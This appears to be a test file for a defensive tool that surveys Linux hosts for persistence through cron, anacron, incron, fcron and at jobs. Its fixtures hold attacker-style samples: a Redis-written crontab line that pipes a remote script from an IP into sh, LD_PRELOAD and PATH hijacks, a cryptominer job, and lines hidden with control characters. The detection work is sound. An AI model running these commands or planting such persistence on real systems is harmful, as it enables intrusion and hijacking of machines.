import assert from 'node:assert/strict'
import { test } from 'node:test'
import fc from 'fast-check'
import { at, parseAtJob } from './at.ts'
import { cron } from './cron.ts'
import { parseCrontab } from './crontab-file.ts'
import { collected, started, surveyOf } from './survey-of.ts'

const passwd = 'root:x:0:0:root:/root:/bin/bash\nnews:x:9:9:news:/var/spool/news:/usr/sbin/nologin\n'

for (const [text, expected] of [
  ['* * * * * /tmp/x', { schedule: '* * * * *', command: '/tmp/x' }],
  ['  */5 0-6,8~9 1 jan-mar sun /tmp/x  ', { schedule: '*/5 0-6,8~9 1 jan-mar sun', command: '/tmp/x' }],
  ['@reboot /tmp/x', { schedule: '@reboot', command: '/tmp/x' }],
  ['@every_minute /tmp/x', { schedule: '@every_minute', command: '/tmp/x' }],
  ['@600 /tmp/x', { schedule: '@600', command: '/tmp/x' }],
  ['-*/5 * * * * /tmp/x', { schedule: '*/5 * * * *', command: '/tmp/x' }],
  ['* * * * * date +\\%F\r', { schedule: '* * * * *', command: 'date +%F' }],
  ['* * * * * sh%/tmp/x%', { schedule: '* * * * *', command: 'sh%/tmp/x%', input: '/tmp/x\n' }],
  ['61 * * * * /tmp/x', { schedule: '61 * * * *', command: '/tmp/x', valid: false, oddities: ['invalid-schedule'] }],
  [
    '\u0003junk\u0001*/1 * * * * /tmp/x\u0000\udcff',
    { schedule: '*/1 * * * *', command: '/tmp/x', valid: false, oddities: ['inside-binary'] },
  ],
  ['# * * * * * /tmp/x', undefined],
  ['', undefined],
  ['* * * * *', undefined],
  ['this is no job at all here', undefined],
  ['MAILTO=root', undefined],
] as const)
  test(`line of a user's table: ${JSON.stringify(text)}`, () => {
    const [job] = parseCrontab(text, 'user').jobs
    const wanted = expected && { line: 1, text, variables: [], valid: true, oddities: [], ...expected }
    assert.deepEqual(job, wanted)
  })

for (const [form, text, expected] of [
  [
    'system',
    '17 * * * * root cd / && run-parts /etc/cron.hourly',
    'root|17 * * * *|cd / && run-parts /etc/cron.hourly',
  ],
  ['system', '@daily news /tmp/x', 'news|@daily|/tmp/x'],
  ['system', '* * * * * /tmp/x', '|* * * * *|/tmp/x'],
  [
    'anacron',
    '1 5 cron.daily nice run-parts /etc/cron.daily',
    '|every 1 days, delay 5 min|nice run-parts /etc/cron.daily',
  ],
  ['anacron', '@monthly 45 m /tmp/x', '|@monthly, delay 45 min|/tmp/x'],
  ['incron', '/var/www IN_CREATE,IN_MODIFY /tmp/x $@/$#', '|IN_CREATE,IN_MODIFY /var/www|/tmp/x $@/$#'],
  ['fcron', '@runas(news),nice(19) 5m /tmp/x', 'news|@runas(news),nice(19) 5m|/tmp/x'],
  ['fcron', '&bootrun 0 * * * * /tmp/x', '|0 * * * *|/tmp/x'],
  ['fcron', '%hourly,mail(no) 0-10 /tmp/x', '|%hourly,mail(no) 0-10|/tmp/x'],
] as const)
  test(`line of ${form}: ${text}`, () => {
    const [job] = parseCrontab(text, form).jobs
    assert.equal(`${job?.user ?? ''}|${job?.schedule}|${job?.command}`, expected)
  })

test('every place and form of a host', async () => {
  const survey = surveyOf({
    '/etc/passwd': passwd,
    '/etc/debian_version': '13.1\n',
    '/etc/crontab':
      'SHELL=/bin/sh\n# m h dom mon dow user command\n17 * * * * root cd / && run-parts --report /etc/cron.hourly\n',
    '/etc/cron.d/.x': '* * * * * root /tmp/a\n',
    '/etc/cron.d/x.sh': '* * * * * root /tmp/b\n',
    '/etc/cron.d/ok': '@reboot nobodyhere /tmp/c\n',
    '/etc/cron.daily/pwnrig': { content: '#!/bin/sh\n', mode: 0o755 },
    '/etc/cron.daily/x.sh': { content: '#!/bin/sh\n', mode: 0o755 },
    '/etc/cron.yearly/y': '#!/bin/sh\n',
    '/etc/anacrontab': '7 10 weekly /tmp/d\n',
    '/var/spool/cron/root': '* * * * * root ./e\n',
    '/var/spool/cron/crontabs/news': 'PATH=/tmp/.p:/bin\nLD_PRELOAD=/tmp/h.so\n*/2 * * * * miner\n',
    '/var/spool/cron/crontabs/ghost': '*/2 * * * * ~/g\n',
    '/var/spool/cron/crontabs/tmp.Ab12': '*/2 * * * * /tmp/f\n',
    '/var/spool/cron/tabs/deep/root': '@hourly /tmp/i\n',
    '/var/spool/cron/atjobs/a00001': 'not a table\n* * * * * /tmp/no\n',
    '/var/spool/incron/root': '/etc IN_MODIFY /tmp/j\n',
    '/var/spool/fcron/root.orig': '@ 5m /tmp/k\n',
    '/etc/crontabs/root': '* * * * * /tmp/l\n',
  })
  assert.deepEqual(await started(cron, survey), [
    'cron-system /etc/crontab:3 cd / && run-parts --report /etc/cron.hourly -> /etc/cron.hourly',
    'cron-d /etc/cron.d/.x:1 [off] /tmp/a -> /tmp/a',
    'cron-d /etc/cron.d/ok:1 [off] /tmp/c -> /tmp/c',
    'cron-d /etc/cron.d/x.sh:1 [off] /tmp/b -> /tmp/b',
    'cron-user /var/spool/cron/crontabs/ghost:1 [off] ~/g',
    'preload /var/spool/cron/crontabs/news:2 LD_PRELOAD /tmp/h.so',
    'cron-user /var/spool/cron/crontabs/news:3 miner -> /tmp/.p/miner /tmp/h.so',
    'cron-user /var/spool/cron/crontabs/tmp.Ab12:1 [off] /tmp/f -> /tmp/f',
    'cron-user /var/spool/cron/root:1 root ./e -> /root/e',
    'cron-user /var/spool/cron/tabs/deep/root:1 /tmp/i -> /tmp/i',
    'cron-user /etc/crontabs/root:1 /tmp/l -> /tmp/l',
    'fcron /var/spool/fcron/root.orig:1 /tmp/k -> /tmp/k',
    'incron /var/spool/incron/root:1 /tmp/j -> /tmp/j',
    'anacron /etc/anacrontab:1 /tmp/d -> /tmp/d',
    'cron-periodic /etc/cron.daily/pwnrig /etc/cron.daily/pwnrig -> /etc/cron.daily/pwnrig',
    'cron-periodic /etc/cron.daily/x.sh [off] /etc/cron.daily/x.sh -> /etc/cron.daily/x.sh',
    'cron-periodic /etc/cron.yearly/y [off] /etc/cron.yearly/y -> /etc/cron.yearly/y',
  ])
})

test('a table that Redis was made to write', async () => {
  const table = Buffer.concat([
    Buffer.from('REDIS0006\xfe\x00\x00\x01x@\x52\n\n\n', 'latin1'),
    Buffer.from('*/1 * * * * curl -fsSL http://198.51.100.7/a.sh | sh\n\n\n'),
    Buffer.from('\xff\x8a\x00\x01', 'latin1'),
  ])
  const [fact] = await collected(cron, surveyOf({ '/etc/passwd': passwd, '/var/spool/cron/root': table }))
  assert.partialDeepStrictEqual(fact, {
    line: 4,
    command: 'curl -fsSL http://198.51.100.7/a.sh | sh',
    user: 'root',
    enabled: true,
    oddities: ['rdb-wrapped'],
  })
})

test('accounts of a directory service are not called unknown', async () => {
  const files = { '/etc/passwd': passwd, '/var/spool/cron/ghost': '@daily /opt/x\n' }
  const oddities = async (more: Record<string, string>) =>
    (await collected(cron, surveyOf({ ...files, ...more }))).map(fact => fact.kind === 'autostart' && fact.oddities)
  assert.deepEqual(await oddities({}), [['unknown-user']])
  assert.deepEqual(await oddities({ '/etc/nsswitch.conf': 'passwd: files sss\n' }), [[]])
})

for (const [name, text, oddity] of [
  ['a carriage return', '* * * * * /tmp/x\r# harmless', 'control-characters'],
  ['a thousand blanks', `* * * * * true;${' '.repeat(1000)}/tmp/x`, 'padded'],
  ['NUL', '* * * * * /tmp/x\u0000hidden', 'nul'],
  ['bytes that are no text', Buffer.from('* * * * * /tmp/\xff', 'latin1'), undefined],
] as const)
  test(`a line that hides something: ${name}`, async () => {
    const [fact] = await collected(cron, surveyOf({ '/etc/passwd': passwd, '/var/spool/cron/root': text }))
    assert.equal(fact?.kind, 'autostart')
    assert.deepEqual(fact?.kind === 'autostart' && fact.oddities, oddity === undefined ? [] : [oddity])
    assert.ok(fact?.kind === 'autostart' && fact.targets.some(path => path.startsWith('/tmp/')))
  })

const job = `#!/bin/sh
# atrun uid=9 gid=9
# mail news 0
umask 22
PATH=/tmp/.p:/bin; export PATH
LD_PRELOAD=/tmp/h.so; export LD_PRELOAD
cd /var/spool/news || {
\t echo 'Execution directory inaccessible' >&2
\t exit 1
}
`

test('jobs of at', async () => {
  const survey = surveyOf({
    '/etc/passwd': passwd,
    '/var/spool/at/a00001019c6d20': `${job}./x\n`,
    '/var/spool/at/spool/a1': 'x',
    '/var/spool/at/.SEQ': '1',
    '/var/spool/cron/atjobs/b0000201a1b2c3': `${job}\${SHELL:-/bin/sh} << 'marcinDELIMITER1234'\nminer\nmarcinDELIMITER1234\n`,
  })
  const facts = await collected(at, survey)
  assert.deepEqual(
    facts.map(fact =>
      fact.kind === 'autostart' ? [fact.name, fact.user, fact.schedule, fact.command, fact.targets] : fact.kind,
    ),
    [
      'preload',
      ['a00001019c6d20', 'news', 'at 2021-05-22T23:28:00.000Z', './x', ['/var/spool/news/x']],
      'preload',
      ['b0000201a1b2c3', 'news', 'batch 2022-01-17T21:55:00.000Z', 'miner', ['/tmp/.p/miner']],
    ],
  )
})

test('any bytes are read without throwing', () => {
  const pieces = [
    '* ',
    '*/5 ',
    '@reboot ',
    'root ',
    '\n',
    '\r',
    '\0',
    ' '.repeat(300),
    '%',
    '\\%',
    'A=b',
    '# ',
    '/tmp/x',
    '\udcff',
    'REDIS0006',
    '1,2-3~',
    "'",
    '"',
    '&',
    '@5 ',
  ]
  const text = fc.oneof(
    fc.string({ unit: 'binary' }),
    fc.array(fc.constantFrom(...pieces)).map(all => all.join('')),
  )
  fc.assert(
    fc.property(text, fc.constantFrom('user', 'system', 'anacron', 'incron', 'fcron'), (table, form) => {
      parseCrontab(table, form)
      parseAtJob(table)
    }),
    { numRuns: 1000 },
  )
})

for (const piece of ['*', '* ', '1,', '\u0001* ', 'a=', ' ', '@', '& ', 'IN_A,', '\\a', '"', '\u00011-'])
  test(`a long line of ${JSON.stringify(piece)} is read in no time`, () => {
    const started = performance.now()
    for (const form of ['user', 'system', 'anacron', 'incron', 'fcron'] as const)
      parseCrontab(piece.repeat(200_000), form)
    assert.ok(performance.now() - started < 4000)
  })

test('a job that only says a name stands on the command of no package that bears it', async () => {
  const host = surveyOf({
    '/etc/passwd': passwd,
    '/etc/cron.d/x': '10 * * * * root perfcc >/dev/null\n11 * * * * root test -x /opt/y && ls\n',
    '/usr/bin/perfcc': { content: 'a program', mode: 0o755 },
    '/usr/bin/ls': { content: 'ls', mode: 0o755 },
    '/var/lib/dpkg/status': 'Package: coreutils\nStatus: install ok installed\nArchitecture: amd64\nVersion: 1\n\n',
    '/var/lib/dpkg/info/coreutils.list': '/.\n/usr/bin/ls\n',
  })
  const jobs = (await collected(cron, host)).map(fact => ('targets' in fact ? fact.targets : []))
  assert.deepEqual(jobs, [['/usr/bin/perfcc'], ['/opt/y']])
})
